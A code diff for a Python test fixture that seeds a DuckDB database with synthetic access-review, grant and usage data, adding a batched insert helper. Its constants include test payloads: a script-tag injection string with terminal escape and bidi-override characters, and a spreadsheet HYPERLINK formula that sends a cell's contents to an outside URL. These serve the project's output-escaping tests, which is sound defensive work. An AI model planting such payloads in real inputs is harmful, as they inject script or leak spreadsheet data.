@@ -3,6 +3,7 @@
 import hashlib
 import random
 from datetime import UTC, datetime, timedelta
+from typing import Any
 
 import duckdb
 
@@ -12,6 +13,7 @@ from dagster_project.publishing.proofs import Proof, Tried
 BEGIN = datetime(2026, 10, 1, tzinfo=UTC)
 AS_OF = datetime(2026, 11, 1, tzinfo=UTC)
 HOSTILE = "<script>alert(1)</script>\x1b[31m\u202eevil\u2066=1+1"
+MANY = 100  # rows of a statement
 FORMULA = '=HYPERLINK("http://example.com/?"&A1,"x")'
 
 TABLES = """
@@ -102,6 +104,14 @@ def empty() -> duckdb.DuckDBPyConnection:
     return connection
 
 
+def _put(connection: duckdb.DuckDBPyConnection, table: str, rows: list[tuple[Any, ...]]) -> None:
+    """Insert rows, many at a time: one after the other takes ten thousand of them ten seconds."""
+    for first in range(0, len(rows), MANY):
+        part = rows[first : first + MANY]
+        places = f"({', '.join('?' * len(part[0]))})"
+        connection.execute(f"insert into {table} values {', '.join([places] * len(part))}", [cell for row in part for cell in row])
+
+
 def month(findings: int = 59, hostile: str | None = None) -> duckdb.DuckDBPyConnection:
     """Return a connection that holds a month with so many findings; `hostile` text takes the place of free text and ids."""
     connection, chance = empty(), random.Random(7)
@@ -127,8 +137,8 @@ def month(findings: int = 59, hostile: str | None = None) -> duckdb.DuckDBPyConn
 
 
 def _findings(connection: duckdb.DuckDBPyConnection, findings: int, chance: random.Random, hostile: str | None) -> None:
-    found: list[tuple[object, ...]] = []
-    decided: list[tuple[object, ...]] = []
+    found: list[tuple[Any, ...]] = []
+    decided: list[tuple[Any, ...]] = []
     for number in range(findings):
         code, severity = chance.choice(VIOLATIONS)
         at = BEGIN + timedelta(seconds=chance.randrange(31 * 86400))
@@ -148,10 +158,10 @@ def _findings(connection: duckdb.DuckDBPyConnection, findings: int, chance: rand
     found.append((finding_id("grant_weaknesses", "g-007"), "grant_weaknesses", [], "GRANT_UNBOUNDED", "low", at, "fjord", None, hostile or weak, AS_OF, "new"))
     for number, (code, stamp) in enumerate([("LOG_GAP", at), ("LOG_GAP", at + timedelta(hours=2)), ("TIME_UNZONED", None)]):
         decided.append(("service", hostile or f"gap-{number}", stamp, "s-02", "gilt", "employee", "undetermined", code, None, [], None, False, False))
-    connection.executemany(f"insert into reported.findings values ({', '.join('?' * 11)})", found)
+    _put(connection, "reported.findings", found)
     granted = ("service", "granted", at, "s-01", "dune", "employee", "permitted", "GRANTED", hostile or "g-011", [], 0.0, False, False)
     told = ("r-1", None, "read", hostile or "support", hostile or "g-001")
-    connection.executemany(f"insert into flagged.access_decisions values ({', '.join('?' * 18)})", [(*row, *told) for row in (*decided, granted)])
+    _put(connection, "flagged.access_decisions", [(*row, *told) for row in (*decided, granted)])
     connection.execute("insert into scrubbed.disclosures values ('d-1', 'dune', ?, 'employee', 'payroll', 'processor', ?)", [hostile or "Ledgerly", at])
     _shared(connection, at, hostile)
     connection.execute("insert into measured.account_records_daily select 'dune', 'employee', date '2026-10-01' + cast(range as integer), 120 + range, 96000 from range(31)")
@@ -200,14 +210,14 @@ def _grants(connection: duckdb.DuckDBPyConnection, chance: random.Random, hostil
         grantee = ("team", "support") if number % 3 else ("person", f"s-{number % 9:02d}")
         last = begin + timedelta(hours=5) if used else None
         rows.append((hostile or f"g-{number:03d}", ACCOUNTS[number % 7], *grantee, begin, end, begin, revoked, state, is_open, used, last))
-    connection.executemany(f"insert into reported.grant_register values ({', '.join('?' * 12)})", rows)
+    _put(connection, "reported.grant_register", rows)
     opened = BEGIN + timedelta(days=17, hours=2)
     emergencies = [
         ("em-1", "s-03", "acme", opened, 3600, True, "approve", opened + timedelta(hours=5), 5, ["BREAK_GLASS_APPROVED"]),
         (hostile or "em-2", "s-08", "dune", opened + timedelta(days=3), 7200, False, None, None, 1, ["BREAK_GLASS_NO_REASON"]),
         ("em-3", "s-08", "fjord", opened + timedelta(days=8), 900, True, "reject", opened + timedelta(days=9), 2, ["BREAK_GLASS_REJECTED"]),
     ]
-    connection.executemany(f"insert into reported.emergency_register values ({', '.join('?' * 10)})", emergencies)
+    _put(connection, "reported.emergency_register", emergencies)
 
 
 def _usage(connection: duckdb.DuckDBPyConnection, chance: random.Random, hostile: str | None) -> None:
@@ -218,19 +228,19 @@ def _usage(connection: duckdb.DuckDBPyConnection, chance: random.Random, hostile
             requests = int((9000 / (place + 1)) * (0.35 if day.weekday() > 4 else 1) * chance.uniform(0.8, 1.2))
             name = hostile if hostile and place == 3 else account
             rows.append((name, "service", day, requests, requests // 50, requests // 900, requests * 2_400, requests // 8, 3, 21.0, 180.5, requests // 30, 0))
-    connection.executemany(f"insert into measured.account_requests_daily values ({', '.join('?' * 13)})", rows)
+    _put(connection, "measured.account_requests_daily", rows)
     capacity = [
         ("acme", "jobs", "2026-10-31", 81230, 812_300_000, 40_000, 230.1, 212.25, 8.5, 190.0, 100000, "2027-01-28", "2027-01-21", "2027-02-05"),
         ("borealis", "jobs", "2026-10-31", 1204, 9_100_000, None, -3.5, -2.25, 0.75, 1.5, 100000, None, None, None),
         (hostile or "dune", "jobs", "2026-10-31", 12, 4096, 512, None, None, None, None, None, None, None, None),
     ]
-    connection.executemany(f"insert into reported.capacity values ({', '.join('?' * 14)})", capacity)
+    _put(connection, "reported.capacity", capacity)
     growth = [
         (account, "jobs", (BEGIN + timedelta(days=number)).date(), records + number * step, 1000 * (records + number * step), step, 1000 * step)
         for account, records, step in (("acme", 74330, 230), ("borealis", 1312, -4), (hostile or "dune", 12, 0))
         for number in range(0, 31, 1 if step else 10)
     ]
-    connection.executemany(f"insert into reported.record_growth values ({', '.join('?' * 7)})", growth)
+    _put(connection, "reported.record_growth", growth)
 
 
 def _ledgers(connection: duckdb.DuckDBPyConnection) -> None:
@@ -243,7 +253,7 @@ def _ledgers(connection: duckdb.DuckDBPyConnection) -> None:
     connection.executemany("insert into reported.population values ('2026-10-01', ?, ?, ?, ?, ?, ?, ?, ?, ?)", population)
     connection.execute("insert into reported.access_balance values (4, 1910, 0, 0, 2, 7, 0, 0, 1822, 14, 6, 59, 0, 0, true)")
     inputs = [(finding_id("input", str(number)), "web_logs", "shop", "combined", "1", 4096 * number, number, number, 0, 0, 0, "read") for number in range(1, 32)]
-    connection.executemany(f"insert into ledger.inputs values ({', '.join('?' * 12)})", inputs)
+    _put(connection, "ledger.inputs", inputs)
     for number in range(31):
         day = BEGIN + timedelta(days=number)
         connection.execute("insert into ledger.keys values (?, ?, ?, ?)", [f"{number:016x}", day.date(), day + timedelta(days=2), day + timedelta(days=2)])
